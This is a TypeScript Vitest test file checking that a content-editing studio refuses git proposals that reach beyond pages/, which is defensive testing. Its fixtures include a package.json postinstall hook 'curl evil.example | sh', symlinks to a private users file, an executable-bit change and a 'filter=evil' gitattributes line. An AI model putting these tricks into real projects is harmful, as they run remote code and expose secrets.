import { chmodSync, existsSync, mkdirSync, renameSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { restoreFile } from '../../../src/studio/git/history.ts'
import { listProposals, publishProposal } from '../../../src/studio/git/proposals.ts'
import { publish } from '../../../src/studio/git/publish.ts'
import { sync } from '../../../src/studio/git/sync.ts'
import { NotContentFailure } from '../../../src/studio/git/tree-changes.ts'
import { createFixture, EDITOR, INDEX, OTHER, type Fixture } from './git-fixture.ts'

// The attack probe of issue 43: a proposal pushed to a content/… branch by someone with access to the shared
// repository carries more than the one field the publisher is shown. Nothing but content may reach the shared branch.
const PUBLISHER = { name: 'Pat Publisher', email: 'pat@example.com' }
const TYPO_FIXED = INDEX.replace('We build homes.', 'We build homes!')

let f: Fixture
beforeEach(() => {
  f = createFixture()
})
afterEach(() => f.cleanup())

/** Pushes the other clone's working tree, as changed by `change`, to a new proposal branch; answers its name. */
function pushProposal(change: (cwd: string) => void, name = 'content/2026-11-29-typo-fix'): string {
  f.git(f.other, 'checkout', '-q', '-b', name, 'origin/main')
  change(f.other)
  f.git(f.other, 'add', '-A')
  f.git(f.other, '-c', `user.name=${OTHER.name}`, '-c', `user.email=${OTHER.email}`, 'commit', '-q', '-m', 'Typo fix')
  f.git(f.other, 'push', '-q', 'origin', name)
  f.git(f.other, 'checkout', '-q', 'main')
  return name
}

async function refusalOf(promise: Promise<unknown>): Promise<NotContentFailure> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  )
  expect(error).toBeInstanceOf(NotContentFailure)
  return error as NotContentFailure
}

describe('a proposal changes content only, or is not published at all', () => {
  it('refuses a "typo fix" that also adds a postinstall script and a line of the build, and lists both for review', async () => {
    const branch = pushProposal((cwd) => {
      f.write(cwd, 'pages/index.yaml', TYPO_FIXED)
      f.write(cwd, 'package.json', '{ "scripts": { "postinstall": "curl evil.example | sh" } }\n')
      f.write(cwd, 'scripts/build.ts', 'console.log("owned")\n')
    })
    const main = f.git(f.remote, 'rev-parse', 'main')

    const [proposal] = await listProposals(f.opts)
    expect(proposal!.files.map((c) => c.file)).toEqual(['pages/index.yaml'])
    expect(proposal!.refused).toEqual([
      { file: 'package.json', reason: 'package.json is not part of the site’s content (pages/)' },
      { file: 'scripts/build.ts', reason: 'scripts/build.ts is not part of the site’s content (pages/)' },
    ])

    const error = await refusalOf(publishProposal(f.opts, branch, PUBLISHER, proposal!.commit))
    expect(error.message).toBe(
      'This proposal cannot be published: besides content it changes package.json is not part of the site’s content (pages/); scripts/build.ts is not part of the site’s content (pages/). The studio changes only the site’s content, so nothing was sent.',
    )
    expect(f.git(f.remote, 'rev-parse', 'main')).toBe(main)
    expect(f.git(f.remote, 'rev-parse', branch)).toBe(proposal!.commit)
  })

  it('refuses a link into the studio’s private folder, in public/ or in pages/, and a file made a program', async () => {
    for (const [name, change, reason] of [
      [
        'content/a-directory',
        (cwd: string) => {
          mkdirSync(join(cwd, 'public'))
          symlinkSync('../.studio/users.json', join(cwd, 'public/team-directory.json'))
        },
        'public/team-directory.json is a link to another file',
      ],
      [
        'content/b-new-page',
        (cwd: string) => symlinkSync('../.studio/users.json', join(cwd, 'pages/team.yaml')),
        'pages/team.yaml is a link to another file',
      ],
      [
        'content/c-program',
        (cwd: string) => chmodSync(join(cwd, 'pages/about.yaml'), 0o755),
        'pages/about.yaml has its permissions changed (it would become a program)',
      ],
      [
        'content/d-attributes',
        (cwd: string) => f.write(cwd, 'pages/.gitattributes', '*.yaml filter=evil\n'),
        'pages/.gitattributes is a hidden file, which is not content',
      ],
    ] as const) {
      const branch = pushProposal((cwd) => {
        f.write(cwd, 'pages/index.yaml', TYPO_FIXED)
        change(cwd)
      }, name)
      const proposal = (await listProposals(f.opts)).find((p) => p.branch === branch)!
      expect(proposal.refused).toEqual([{ file: expect.any(String), reason }])
      expect(proposal.files.map((c) => c.file)).toEqual(['pages/index.yaml'])
      const error = await refusalOf(publishProposal(f.opts, branch, PUBLISHER, proposal.commit))
      expect(error.message).toContain(reason)
    }
    expect(f.git(f.remote, 'log', '--format=%s', 'main')).toBe('First version')
  })

  it('publishes exactly the version reviewed: a branch changed since is refused', async () => {
    f.write(f.studio, 'pages/index.yaml', TYPO_FIXED)
    const proposed = await publish(f.opts, { message: 'Typo fix', author: EDITOR, propose: true })
    if (proposed.kind !== 'proposed') throw new Error(proposed.kind)
    const [reviewed] = await listProposals(f.opts)
    // The branch moves after the publisher looked: another commit lands on it.
    f.git(f.other, 'fetch', '-q')
    f.git(f.other, 'checkout', '-q', '-b', 'p', `origin/${proposed.branch}`)
    f.write(f.other, 'pages/about.yaml', 'title: About us\nbody: Changed after the review.\n')
    f.git(f.other, '-c', 'user.name=X', '-c', 'user.email=x@example.com', 'commit', '-qam', 'More')
    f.git(f.other, 'push', '-q', 'origin', `p:${proposed.branch}`)

    await expect(publishProposal(f.opts, proposed.branch, PUBLISHER, reviewed!.commit)).rejects.toThrow(
      'The editor changed this proposal after you opened it: look at its changes again before publishing it.',
    )
    expect(f.git(f.remote, 'log', '--format=%s', 'main')).toBe('First version')
  })
})

describe('a direct publish or proposal from the studio sends content only', () => {
  it('refuses a link under pages/, naming it, and leaves the index and the shared branch as they were', async () => {
    f.write(f.studio, 'pages/index.yaml', TYPO_FIXED)
    symlinkSync('../.studio/users.json', join(f.studio, 'pages/team.yaml'))
    f.write(f.studio, 'README.md', 'A developer’s staged change.\n')
    f.git(f.studio, 'add', 'README.md')
    const index = f.git(f.studio, 'ls-files', '--stage')
    const staged = f.git(f.studio, 'diff', '--cached', '--name-status')

    for (const propose of [false, true]) {
      const error = await refusalOf(publish(f.opts, { message: 'Typo fix', author: EDITOR, propose }))
      expect(error.message).toBe(
        'Not published: the content holds something the studio never publishes: pages/team.yaml is a link to another file. The studio changes only the site’s content, so nothing was sent.',
      )
    }
    expect(f.git(f.studio, 'ls-files', '--stage')).toBe(index)
    expect(f.git(f.studio, 'diff', '--cached', '--name-status')).toBe(staged)
    expect(f.git(f.studio, 'log', '--format=%s')).toBe('First version')
    expect(f.git(f.remote, 'log', '--format=%s', 'main')).toBe('First version')
    expect(f.git(f.remote, 'branch', '--list', 'content/*')).toBe('')
  })

  it('refuses when the copy holds an unpublished commit of a developer’s outside pages/', async () => {
    f.write(f.studio, 'package.json', '{ "scripts": { "postinstall": "curl evil.example | sh" } }\n')
    f.git(f.studio, 'add', 'package.json')
    f.git(f.studio, '-c', 'user.name=Dev', '-c', 'user.email=dev@example.com', 'commit', '-q', '-m', 'Scripts')
    f.write(f.studio, 'pages/index.yaml', TYPO_FIXED)
    const error = await refusalOf(publish(f.opts, { message: 'Typo fix', author: EDITOR }))
    expect(error.refused).toEqual([
      { file: 'package.json', reason: 'package.json is not part of the site’s content (pages/)' },
    ])
    expect(f.git(f.remote, 'log', '--format=%s', 'main')).toBe('First version')
    expect(f.git(f.studio, 'status', '--porcelain')).toBe('M pages/index.yaml')
  })

  it('commits the editor’s content alone, leaving what a developer staged staged', async () => {
    f.write(f.studio, 'pages/index.yaml', TYPO_FIXED)
    f.write(f.studio, 'README.md', 'A developer’s staged change.\n')
    f.git(f.studio, 'add', 'README.md')
    expect(await publish(f.opts, { message: 'Typo fix', author: EDITOR })).toMatchObject({ kind: 'published' })
    expect(f.git(f.remote, 'diff-tree', '--no-commit-id', '--name-status', '-r', 'main')).toBe('M\tpages/index.yaml')
    expect(f.git(f.studio, 'diff', '--cached', '--name-status')).toBe('M\tREADME.md')
    expect(f.git(f.studio, 'status', '--porcelain')).toBe('M  README.md')
  })

  it('cleans the message: no control characters or escape codes, no trailer crediting someone else, capped', async () => {
    f.write(f.studio, 'pages/index.yaml', TYPO_FIXED)
    const message = [
      'Typo fix\u0000\u001b[2J\u001b[31m in red\u001b[0m\u202e',
      '',
      'Signed-off-by: Pat Publisher <pat@example.com>',
      'Co-authored-by: Erin Editor <erin@example.com>',
      'x'.repeat(900_000),
    ].join('\n')
    expect(await publish(f.opts, { message, author: EDITOR })).toMatchObject({ kind: 'published' })
    const written = f.git(f.remote, 'log', '-1', '--format=%B', 'main')
    expect(written.startsWith('Typo fix in red\n\nCo-authored-by: Erin Editor <erin@example.com>\nxxx')).toBe(true)
    expect(written).not.toContain('Pat Publisher')
    expect([...written].length).toBe(2000)
  })
})

describe('what arrives, and what the studio writes back, is never a link', () => {
  it('does not bring in a link to the private folder that others published in public/ or pages/', async () => {
    mkdirSync(join(f.other, 'public'))
    symlinkSync('../.studio/users.json', join(f.other, 'public/team-directory.json'))
    f.publishAs(f.other, OTHER, { 'pages/about.yaml': 'title: About\nbody: New.\n' }, 'Directory')
    const head = f.git(f.studio, 'rev-parse', 'HEAD')
    const result = await sync(f.opts)
    expect(result.message).toBe(
      'Others published changes, but they were not brought in: public/team-directory.json is a link to another file, which the studio never takes where the site’s files are. Ask a developer to remove it from the shared repository.',
    )
    expect(result.arrived).toEqual([])
    expect(f.git(f.studio, 'rev-parse', 'HEAD')).toBe(head)
    expect(existsSync(join(f.studio, 'public/team-directory.json'))).toBe(false)
  })

  it('restores and discards without following a link, and never writes a link’s version back as a file', async () => {
    f.write(f.studio, '.studio/users.json', '{"secret": true}\n')
    symlinkSync('../.studio/users.json', join(f.other, 'pages/team.yaml'))
    f.publishAs(f.other, OTHER, {}, 'Team')
    const withLink = f.git(f.other, 'rev-parse', 'HEAD')
    f.git(f.studio, 'fetch', '-q')
    await expect(restoreFile(f.opts, withLink, 'pages/team.yaml')).rejects.toThrow(
      'pages/team.yaml is a link to another file in that version, so the studio does not bring it back.',
    )
    // A link in the working tree is never written through.
    symlinkSync('../.studio/users.json', join(f.studio, 'pages/about.yaml.link'))
    renameSync(join(f.studio, 'pages/about.yaml.link'), join(f.studio, 'pages/about.yaml'))
    await expect(restoreFile(f.opts, f.git(f.studio, 'rev-parse', 'HEAD'), 'pages/about.yaml')).rejects.toThrow(
      'pages/about.yaml is a link to another file, so the studio leaves it alone: ask a developer to remove the link.',
    )
    expect(f.read(f.studio, '.studio/users.json')).toBe('{"secret": true}\n')
  })
})
